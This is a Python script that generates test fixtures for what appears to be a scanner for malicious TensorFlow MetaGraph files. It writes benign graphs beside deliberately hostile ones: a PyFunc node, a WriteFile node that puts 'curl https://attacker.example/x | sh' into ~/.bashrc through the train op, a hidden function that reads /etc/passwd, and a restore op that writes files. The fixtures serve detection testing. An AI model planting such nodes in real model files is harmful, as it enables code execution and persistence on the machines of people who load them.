#!/usr/bin/python3
"""Writes samples/tf-metagraph/: TF1 MetaGraphDef files (`model.ckpt.meta`), the graph that
`tf.compat.v1.train.Saver.save` / `tf.compat.v1.train.export_meta_graph` write beside a checkpoint
and `tf.compat.v1.train.import_meta_graph` loads (then a session runs it, `Saver.restore` runs its
restore op).

There is no TensorFlow on this machine: the bytes are written with the `protobuf` package
(python3-protobuf) from message descriptors declared below with the field numbers of TensorFlow's
public protos (tensorflow/core/protobuf/meta_graph.proto, saver.proto, framework/graph.proto,
node_def.proto, attr_value.proto, tensor.proto, tensor_shape.proto, op_def.proto, function.proto,
versions.proto, variable.proto). The graphs follow what TF 1.15 writes for a small dense model
trained with GradientDescent and saved with a V2 `Saver`: VariableV2/Assign/Identity variables, the
`save/` scope (SaveV2, RestoreV2, restore_all), `variables`/`trainable_variables` collections of
VariableDefs, a `train_op` collection, the stripped op list and the TensorFlow version.

- tf1_saver/: `checkpoint` + `model.ckpt.meta`, benign (must stay clean).
- tf1_savedmodel_graph.meta: the meta graph of samples/tf-onnx-bypass/tf1_clean/saved_model.pb
  (written by TensorFlow 2.21's SavedModel Builder), cut out of the SavedModel: benign, real bytes.
- py_func/model.ckpt.meta: a PyFunc node feeding the model's output.
- write_file/model.ckpt.meta: WriteFile of a Const path, run by the train op.
- read_file_py_func_in_function/model.ckpt.meta: ReadFile + PyFunc inside a library function that a
  StatefulPartitionedCall on the output path calls.
- restore_writes/model.ckpt.meta: the SaverDef's restore op also runs a SaveV2 (Saver.restore writes).
- graph_export.pb: the PyFunc graph under another name (recognised by its structure).
- unity/Prefab.prefab.meta: a Unity asset `.meta` (YAML text): not a MetaGraphDef, stays clean.

Nothing is executed here. Run from the repository root with /usr/bin/python3.
"""

import json
import os
import shutil

from google.protobuf import descriptor_pb2, descriptor_pool, message_factory

OUT = os.path.join("samples", "tf-metagraph")
F = descriptor_pb2.FieldDescriptorProto
T = {
    "string": F.TYPE_STRING,
    "bytes": F.TYPE_BYTES,
    "int32": F.TYPE_INT32,
    "int64": F.TYPE_INT64,
    "float": F.TYPE_FLOAT,
    "bool": F.TYPE_BOOL,
    "enum": F.TYPE_INT32,  # DataType and friends: an enum is a varint on the wire
}
# message: [(field name, number, type or message name, repeated)]; ("map", key, value) for maps
PROTOS = {
    "MetaGraphDef": [
        ("meta_info_def", 1, "MetaInfoDef", False),
        ("graph_def", 2, "GraphDef", False),
        ("saver_def", 3, "SaverDef", False),
        ("collection_def", 4, ("map", "string", "CollectionDef"), True),
        ("signature_def", 5, ("map", "string", "SignatureDef"), True),
    ],
    "MetaInfoDef": [
        ("meta_graph_version", 1, "string", False),
        ("stripped_op_list", 2, "OpList", False),
        ("tags", 4, "string", True),
        ("tensorflow_version", 5, "string", False),
        ("tensorflow_git_version", 6, "string", False),
    ],
    "OpList": [("op", 1, "OpDef", True)],
    "OpDef": [
        ("name", 1, "string", False),
        ("input_arg", 2, "ArgDef", True),
        ("output_arg", 3, "ArgDef", True),
        ("attr", 4, "AttrDef", True),
        ("is_stateful", 17, "bool", False),
    ],
    "ArgDef": [("name", 1, "string", False), ("type", 3, "enum", False), ("type_attr", 4, "string", False),
               ("is_ref", 16, "bool", False)],
    "AttrDef": [("name", 1, "string", False), ("type", 2, "string", False), ("default_value", 3, "AttrValue", False)],
    "GraphDef": [
        ("node", 1, "NodeDef", True),
        ("library", 2, "FunctionDefLibrary", False),
        ("versions", 4, "VersionDef", False),
    ],
    "VersionDef": [("producer", 1, "int32", False), ("min_consumer", 2, "int32", False)],
    "NodeDef": [
        ("name", 1, "string", False),
        ("op", 2, "string", False),
        ("input", 3, "string", True),
        ("device", 4, "string", False),
        ("attr", 5, ("map", "string", "AttrValue"), True),
    ],
    "AttrValue": [
        ("list", 1, "ListValue", False),
        ("s", 2, "bytes", False),
        ("i", 3, "int64", False),
        ("f", 4, "float", False),
        ("b", 5, "bool", False),
        ("type", 6, "enum", False),
        ("shape", 7, "TensorShapeProto", False),
        ("tensor", 8, "TensorProto", False),
        ("func", 10, "NameAttrList", False),
    ],
    "ListValue": [("s", 2, "bytes", True), ("i", 3, "int64", True), ("type", 6, "enum", True)],
    "NameAttrList": [("name", 1, "string", False)],
    "TensorShapeProto": [("dim", 2, "Dim", True), ("unknown_rank", 3, "bool", False)],
    "Dim": [("size", 1, "int64", False)],
    "TensorProto": [
        ("dtype", 1, "enum", False),
        ("tensor_shape", 2, "TensorShapeProto", False),
        ("tensor_content", 4, "bytes", False),
        ("float_val", 5, "float", True),
        ("int_val", 7, "int32", True),
        ("string_val", 8, "bytes", True),
    ],
    "FunctionDefLibrary": [("function", 1, "FunctionDef", True)],
    "FunctionDef": [
        ("signature", 1, "OpDef", False),
        ("node_def", 3, "NodeDef", True),
        ("ret", 4, ("map", "string", "string"), True),
    ],
    "SaverDef": [
        ("filename_tensor_name", 1, "string", False),
        ("save_tensor_name", 2, "string", False),
        ("restore_op_name", 3, "string", False),
        ("max_to_keep", 4, "int32", False),
        ("sharded", 5, "bool", False),
        ("keep_checkpoint_every_n_hours", 6, "float", False),
        ("version", 7, "enum", False),
    ],
    "CollectionDef": [("node_list", 1, "NodeList", False), ("bytes_list", 2, "BytesList", False)],
    "NodeList": [("value", 1, "string", True)],
    "BytesList": [("value", 1, "bytes", True)],
    "SignatureDef": [("method_name", 3, "string", False)],
    "VariableDef": [
        ("variable_name", 1, "string", False),
        ("initializer_name", 2, "string", False),
        ("snapshot_name", 3, "string", False),
        ("initial_value_name", 6, "string", False),
        ("trainable", 7, "bool", False),
    ],
}


def build_classes():
    """Message classes for PROTOS (package `tensorflow`, as TensorFlow's own)."""
    fd = descriptor_pb2.FileDescriptorProto(name="modelgate_samples_tf.proto", package="tensorflow", syntax="proto3")
    for name, fields in PROTOS.items():
        m = fd.message_type.add(name=name)
        for fname, number, ftype, repeated in fields:
            f = m.field.add(name=fname, number=number)
            f.label = F.LABEL_REPEATED if repeated else F.LABEL_OPTIONAL
            if isinstance(ftype, tuple):  # map<key, value>: a nested *Entry message
                entry = m.nested_type.add(name="".join(p.capitalize() for p in fname.split("_")) + "Entry")
                entry.options.map_entry = True
                entry.field.add(name="key", number=1, type=T[ftype[1]], label=F.LABEL_OPTIONAL)
                value = entry.field.add(name="value", number=2, label=F.LABEL_OPTIONAL)
                if ftype[2] in T:
                    value.type = T[ftype[2]]
                else:
                    value.type, value.type_name = F.TYPE_MESSAGE, f".tensorflow.{ftype[2]}"
                f.type, f.type_name = F.TYPE_MESSAGE, f".tensorflow.{name}.{entry.name}"
            elif ftype in T:
                f.type = T[ftype]
            else:
                f.type, f.type_name = F.TYPE_MESSAGE, f".tensorflow.{ftype}"
    pool = descriptor_pool.DescriptorPool()
    pool.Add(fd)
    factory = message_factory.MessageFactory(pool)
    return {n: factory.GetPrototype(pool.FindMessageTypeByName(f"tensorflow.{n}")) for n in PROTOS}


PB = build_classes()
DT_FLOAT, DT_INT32, DT_STRING, DT_FLOAT_REF = 1, 3, 7, 101


def shape(*dims):
    return PB["TensorShapeProto"](dim=[PB["Dim"](size=d) for d in dims])


def const_float(name, dims, value):
    return node(name, "Const", [], dtype=DT_FLOAT, value=PB["TensorProto"](dtype=DT_FLOAT, tensor_shape=shape(*dims),
                                                                            float_val=[value]))


def const_strings(name, values, dims=None):
    t = PB["TensorProto"](dtype=DT_STRING, tensor_shape=shape(*(dims if dims is not None else [len(values)])),
                          string_val=[v.encode() for v in values])
    return node(name, "Const", [], dtype=DT_STRING, value=t)


def node(name, op, inputs, device="", **attrs):
    """A NodeDef; attribute values: int → type, bytes → s, bool → b, float → f, messages by kind."""
    n = PB["NodeDef"](name=name, op=op, input=inputs, device=device)
    for key, v in attrs.items():
        key = key.replace("class_", "_class")
        a = n.attr[key]
        if isinstance(v, bool):
            a.b = v
        elif isinstance(v, int):
            a.type = v
        elif isinstance(v, bytes):
            a.s = v
        elif isinstance(v, float):
            a.f = v
        elif isinstance(v, list):  # list(type) or list(string)
            if v and isinstance(v[0], bytes):
                a.list.s.extend(v)
            else:
                a.list.type.extend(v)
        elif isinstance(v, str):  # a function name
            a.func.name = v
        elif type(v).__name__ == "TensorShapeProto":
            a.shape.CopyFrom(v)
        else:
            a.tensor.CopyFrom(v)
    return n


def variable(name, dims, init):
    """A TF1 ref variable: VariableV2, its initializer, Assign and the `read` Identity."""
    loc = [f"loc:@{name}".encode()]
    return [
        const_float(f"{name}/Initializer/{init}", dims, 0.0),
        node(name, "VariableV2", [], shape=shape(*dims), dtype=DT_FLOAT, container=b"", shared_name=b""),
        node(f"{name}/Assign", "Assign", [name, f"{name}/Initializer/{init}"], T=DT_FLOAT, class_=loc,
             use_locking=True, validate_shape=True),
        node(f"{name}/read", "Identity", [name], T=DT_FLOAT, class_=loc),
    ]


def saver_nodes(var_names, extra_restore=()):
    """The `save/` scope a V2 `tf.compat.v1.train.Saver()` adds (not sharded)."""
    cpu = "/device:CPU:0"
    n = len(var_names)
    nodes = [
        const_strings("save/filename/input", ["model"], dims=[]),
        node("save/filename", "PlaceholderWithDefault", ["save/filename/input"], dtype=DT_STRING, shape=shape()),
        node("save/Const", "PlaceholderWithDefault", ["save/filename"], dtype=DT_STRING, shape=shape()),
        const_strings("save/SaveV2/tensor_names", var_names),
        const_strings("save/SaveV2/shape_and_slices", [""] * n),
        node("save/SaveV2", "SaveV2", ["save/Const", "save/SaveV2/tensor_names", "save/SaveV2/shape_and_slices",
                                       *var_names], dtypes=[DT_FLOAT] * n),
        node("save/control_dependency", "Identity", ["save/Const", "^save/SaveV2"], T=DT_STRING,
             class_=[b"loc:@save/Const"]),
        const_strings("save/RestoreV2/tensor_names", var_names),
        const_strings("save/RestoreV2/shape_and_slices", [""] * n),
        node("save/RestoreV2", "RestoreV2", ["save/Const", "save/RestoreV2/tensor_names",
                                             "save/RestoreV2/shape_and_slices"], device=cpu, dtypes=[DT_FLOAT] * n),
    ]
    assigns = []
    for i, v in enumerate(var_names):
        a = "save/Assign" if i == 0 else f"save/Assign_{i}"
        src = "save/RestoreV2" if i == 0 else f"save/RestoreV2:{i}"
        nodes.append(node(a, "Assign", [v, src], T=DT_FLOAT, class_=[f"loc:@{v}".encode()], use_locking=True,
                          validate_shape=True))
        assigns.append(a)
    nodes.append(node("save/restore_all", "NoOp", [f"^{a}" for a in [*assigns, *extra_restore]]))
    return nodes


def train_nodes():
    """A GradientDescent step on both variables (gradients fed from a placeholder to stay short)."""
    return [
        node("grad_w", "Placeholder", [], dtype=DT_FLOAT, shape=shape(4, 2)),
        node("grad_b", "Placeholder", [], dtype=DT_FLOAT, shape=shape(2)),
        const_float("GradientDescent/learning_rate", [], 0.01),
        node("GradientDescent/update_w/ApplyGradientDescent", "ApplyGradientDescent",
             ["w", "GradientDescent/learning_rate", "grad_w"], T=DT_FLOAT, class_=[b"loc:@w"], use_locking=False),
        node("GradientDescent/update_b/ApplyGradientDescent", "ApplyGradientDescent",
             ["b", "GradientDescent/learning_rate", "grad_b"], T=DT_FLOAT, class_=[b"loc:@b"], use_locking=False),
        node("GradientDescent", "NoOp", ["^GradientDescent/update_w/ApplyGradientDescent",
                                         "^GradientDescent/update_b/ApplyGradientDescent"]),
    ]


def op_def(name, stateful=False):
    return PB["OpDef"](name=name, is_stateful=stateful)


def meta_graph(model_nodes, extra_nodes=(), extra_restore=(), functions=(), train_op="GradientDescent"):
    """A MetaGraphDef as `Saver.save` exports it: meta info, graph, saver, collections."""
    nodes = [
        node("x", "Placeholder", [], dtype=DT_FLOAT, shape=shape(-1, 4)),
        *variable("w", [4, 2], "zeros"),
        *variable("b", [2], "zeros"),
        *model_nodes,
        node("init", "NoOp", ["^w/Assign", "^b/Assign"]),
        *train_nodes(),
        *extra_nodes,
        *saver_nodes(["b", "w"], extra_restore),
    ]
    graph = PB["GraphDef"](node=nodes, versions=PB["VersionDef"](producer=134))
    if functions:
        graph.library.function.extend(functions)
    stateful = {"VariableV2", "Assign", "SaveV2", "RestoreV2", "ApplyGradientDescent", "PyFunc", "WriteFile",
                "ReadFile", "StatefulPartitionedCall", "NoOp"}
    ops = sorted({n.op for n in nodes} | {n.op for f in functions for n in f.node_def})
    info = PB["MetaInfoDef"](stripped_op_list=PB["OpList"](op=[op_def(o, o in stateful) for o in ops]),
                             tensorflow_version="1.15.5", tensorflow_git_version="v1.15.4-39-g3db52be")
    meta = PB["MetaGraphDef"](meta_info_def=info, graph_def=graph)
    meta.saver_def.CopyFrom(PB["SaverDef"](filename_tensor_name="save/Const:0",
                                           save_tensor_name="save/control_dependency:0",
                                           restore_op_name="save/restore_all", max_to_keep=5,
                                           keep_checkpoint_every_n_hours=10000.0, version=2))
    variables = [PB["VariableDef"](variable_name=f"{v}:0", initializer_name=f"{v}/Assign", snapshot_name=f"{v}/read:0",
                                   initial_value_name=f"{v}/Initializer/zeros:0", trainable=True).SerializeToString(deterministic=True)
                 for v in ("w", "b")]
    meta.collection_def["variables"].bytes_list.value.extend(variables)
    meta.collection_def["trainable_variables"].bytes_list.value.extend(variables)
    meta.collection_def["train_op"].node_list.value.append(train_op)
    return meta.SerializeToString(deterministic=True)


def dense(output_inputs=("add",)):
    return [
        node("MatMul", "MatMul", ["x", "w/read"], T=DT_FLOAT, transpose_a=False, transpose_b=False),
        node("add", "Add", ["MatMul", "b/read"], T=DT_FLOAT),
        node("y", "Identity", list(output_inputs), T=DT_FLOAT),
    ]


expected = {}


def put(rel, data, verdict, rules=(), absent=(), evidence=None):
    full = os.path.join(OUT, rel)
    os.makedirs(os.path.dirname(full), exist_ok=True)
    with open(full, "wb") as f:
        f.write(data)
    entry = {"verdict": verdict}
    if rules:
        entry["rules"] = list(rules)
    if absent:
        entry["absentRules"] = list(absent)
    if evidence:
        entry["evidence"] = evidence
    return entry


def field2_of_savedmodel(path):
    """The first `meta_graphs` entry (field 2) of a SavedModel, as its bytes."""
    data = open(path, "rb").read()
    at = 0

    def varint(at):
        value, shift = 0, 0
        while True:
            b = data[at]
            value |= (b & 0x7F) << shift
            at += 1
            shift += 7
            if b < 0x80:
                return value, at

    while at < len(data):
        key, at = varint(at)
        if key & 7 == 0:
            _, at = varint(at)
        elif key & 7 == 2:
            length, at = varint(at)
            if key >> 3 == 2:
                return data[at:at + length]
            at += length
        else:
            raise ValueError("unexpected wire type")
    raise ValueError("no meta graph")


def main():
    shutil.rmtree(OUT, ignore_errors=True)
    clean_absent = ["savedmodel/checkpoint-op", "savedmodel/unknown-op", "savedmodel/malformed"]
    benign = meta_graph(dense())
    e = put("tf1_saver/model.ckpt.meta", benign, "clean", absent=clean_absent)
    with open(os.path.join(OUT, "tf1_saver", "checkpoint"), "w") as f:
        f.write('model_checkpoint_path: "model.ckpt"\nall_model_checkpoint_paths: "model.ckpt"\n')
    expected["tf-metagraph/tf1_saver"] = e

    real = field2_of_savedmodel(os.path.join("samples", "tf-onnx-bypass", "tf1_clean", "saved_model.pb"))
    expected["tf-metagraph/tf1_savedmodel_graph.meta"] = put("tf1_savedmodel_graph.meta", real, "clean",
                                                             absent=clean_absent)

    py = dense(("add", "^evil/PyFunc"))
    py_nodes = [const_strings("evil/token", ["pyfunc_0"], dims=[]),
                node("evil/PyFunc", "PyFunc", ["evil/token"], token=b"pyfunc_0", Tin=[DT_STRING], Tout=[DT_FLOAT])]
    pyfunc = meta_graph(py + py_nodes)
    expected["tf-metagraph/py_func/model.ckpt.meta"] = put("py_func/model.ckpt.meta", pyfunc, "malicious",
                                                           ["savedmodel/py-func"], evidence={"op": "PyFunc"})

    wf = [const_strings("hook/path", ["/home/user/.bashrc"], dims=[]),
          const_strings("hook/contents", ["curl https://attacker.example/x | sh"], dims=[]),
          node("hook/WriteFile", "WriteFile", ["hook/path", "hook/contents"])]
    write = meta_graph(dense() + wf, train_op="hook/WriteFile")
    expected["tf-metagraph/write_file/model.ckpt.meta"] = put("write_file/model.ckpt.meta", write, "malicious",
                                                              ["savedmodel/file-io-op"], evidence={"op": "WriteFile"})

    fn = PB["FunctionDef"](
        signature=PB["OpDef"](name="__inference_preprocess_42", is_stateful=True),
        node_def=[
            node("path", "Const", [], dtype=DT_STRING,
                 value=PB["TensorProto"](dtype=DT_STRING, tensor_shape=shape(), string_val=[b"/etc/passwd"])),
            node("ReadFile", "ReadFile", ["path:output:0"]),
            node("PyFunc", "PyFunc", ["ReadFile:contents:0"], token=b"pyfunc_1", Tin=[DT_STRING], Tout=[DT_FLOAT]),
        ],
    )
    fn.ret["output"] = "PyFunc:output:0"
    call = node("preprocess", "StatefulPartitionedCall", [], f="__inference_preprocess_42", Tin=[], Tout=[DT_FLOAT])
    in_fn = meta_graph(dense(("add", "^preprocess")) + [call], functions=[fn])
    expected["tf-metagraph/read_file_py_func_in_function/model.ckpt.meta"] = put(
        "read_file_py_func_in_function/model.ckpt.meta", in_fn, "malicious",
        ["savedmodel/py-func", "savedmodel/file-io-op"], evidence={"function": "__inference_preprocess_42"})

    extra = [const_strings("save/extra/prefix", ["/tmp/modelgate-sample/out"], dims=[]),
             node("save/SaveV2_1", "SaveV2", ["save/extra/prefix", "save/SaveV2/tensor_names",
                                              "save/SaveV2/shape_and_slices", "b", "w"], dtypes=[DT_FLOAT] * 2)]
    restore = meta_graph(dense(), extra_nodes=extra, extra_restore=["save/SaveV2_1"])
    expected["tf-metagraph/restore_writes/model.ckpt.meta"] = put(
        "restore_writes/model.ckpt.meta", restore, "malicious", ["savedmodel/checkpoint-op"],
        evidence={"op": "SaveV2", "node": "save/SaveV2_1"})

    expected["tf-metagraph/graph_export.pb"] = put("graph_export.pb", pyfunc, "malicious", ["savedmodel/py-func"])

    unity = b"fileFormatVersion: 2\nguid: 4b1c7a3f0e2d4c5b8a9f6e7d1c2b3a40\nPrefabImporter:\n  externalObjects: {}\n"
    expected["tf-metagraph/unity/Prefab.prefab.meta"] = put("unity/Prefab.prefab.meta", unity, "clean",
                                                            absent=["savedmodel/malformed"])

    with open(os.path.join(OUT, "expected.json"), "w") as f:
        json.dump(expected, f, indent=1)
        f.write("\n")


if __name__ == "__main__":
    main()
